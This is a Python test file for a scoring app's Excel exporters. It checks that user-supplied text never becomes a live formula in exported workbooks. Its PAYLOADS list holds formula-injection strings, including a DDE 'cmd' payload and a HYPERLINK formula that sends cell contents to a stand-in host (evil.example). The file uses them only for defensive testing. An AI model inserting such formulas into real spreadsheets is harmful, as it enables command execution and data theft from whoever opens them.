"""No user text reaches an exported workbook as a formula: every cell whose value starts with "=" is text."""

from __future__ import annotations

import re
import zipfile
from collections.abc import Iterator
from dataclasses import replace
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from app.exporters.batch import summary_row
from app.exporters.excel import export_xlsx
from app.exporters.summary import export_summary
from app.scoring.engine import score_project
from app.scoring.records import Category, Group, Indicator, Project, ReviewInfo, Rule, SubItem, Template

PAYLOADS = ("=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "=WEBSERVICE(\"http://x\")",
            "=1+1", "＝1+1", "+1+1", "-2+3", "@SUM(1,2)", "=\t1", " =SUM(A1:A9)", "==", "=")


def poisoned(project: Project, start: int = 0) -> Project:
    """Every text field of the project (identity, narrative, tree, targets, actuals, reasons) set to a payload."""
    n = iter(range(start, start + 10_000))

    def p(text: str) -> str:
        return PAYLOADS[next(n) % len(PAYLOADS)]

    def ind(i: Indicator) -> Indicator:
        return replace(i, name=p(i.name), target=p(i.target), actual=p(i.actual), explanation=p(i.explanation),
                       benchmark=p(i.benchmark), criteria=p(i.criteria), deviation_reason=p(i.deviation_reason),
                       override_reason=p(i.override_reason), reviewer_note=p(i.reviewer_note),
                       subitems=tuple(SubItem(p(s.name), p(s.target), p(s.actual), p(s.explanation))
                                      for s in i.subitems))

    cats = tuple(Category(p(c.name), c.weight, tuple(Group(p(g.name), g.weight, tuple(ind(i) for i in g.indicators))
                                                     for g in c.groups), p(c.short_name))
                 for c in project.categories)
    return replace(project, name=p(project.name), department=p(project.department), unit=p(project.unit),
                   contact=p(project.contact), phone=p(project.phone), region=p(project.region),
                   narrative={k: p(v) for k, v in project.narrative.items()} | {"other": p("")},
                   materials=(p(""), p("")), categories=cats,
                   review=ReviewInfo(p(""), p(""), p("")))


def _cells(path: Path) -> Iterator[tuple[str, object, str]]:
    wb = openpyxl.load_workbook(path)  # not data_only: formulas come back as formulas
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                yield f"{ws.title}!{cell.coordinate}", cell.value, cell.data_type


def _assert_no_formula(path: Path) -> int:
    checked = 0
    for where, value, data_type in _cells(path):
        assert data_type != "f", f"{where}: formula {value!r}"
        if isinstance(value, str) and value.startswith("="):
            assert data_type == "s", f"{where}: {value!r} is {data_type}"
            checked += 1
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<f[ >]", zf.read(name)), f"{name}: a <f> element"
    return checked


@pytest.mark.parametrize("sample", ["seed000", "seed003"])
def test_every_payload_in_every_field_stays_text(tmp_path: Path, request: pytest.FixtureRequest,
                                                 sample: str) -> None:
    project, template = request.getfixturevalue(sample)
    total = 0
    for start in range(len(PAYLOADS)):  # every payload lands in every field once
        bad = poisoned(project, start)
        report = score_project(bad, template)
        path = tmp_path / f"{start}.xlsx"
        export_xlsx(bad, template, report, path)
        total += _assert_no_formula(path)
        summary = tmp_path / f"汇总{start}.xlsx"
        export_summary([summary_row(bad, report), summary_row(project, score_project(project, template))], summary)
        total += _assert_no_formula(summary)
    assert total > 100  # the payloads did reach the workbooks, as text


@settings(max_examples=20, deadline=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture])
@given(prefix=st.sampled_from(["=", "＝", "+", "-", "@", "\t=", "\r="]), body=st.text(max_size=30))
def test_generated_text_is_never_a_formula(tmp_path: Path, templates: dict[str, Template], prefix: str,
                                           body: str) -> None:
    template = templates["mof-2020"]
    text = prefix + body
    ind = Indicator(name=text, weight=Decimal(10), rule=Rule("proportional"), target=text, actual=body,
                    deviation_reason=text)
    project = Project(year=2021, name=text, template_id=template.id, unit=text,
                      categories=(Category(text, ind.weight, (Group(text, None, (ind,)),)),))
    path = tmp_path / "g.xlsx"
    export_xlsx(project, template, score_project(project, template), path)
    _assert_no_formula(path)
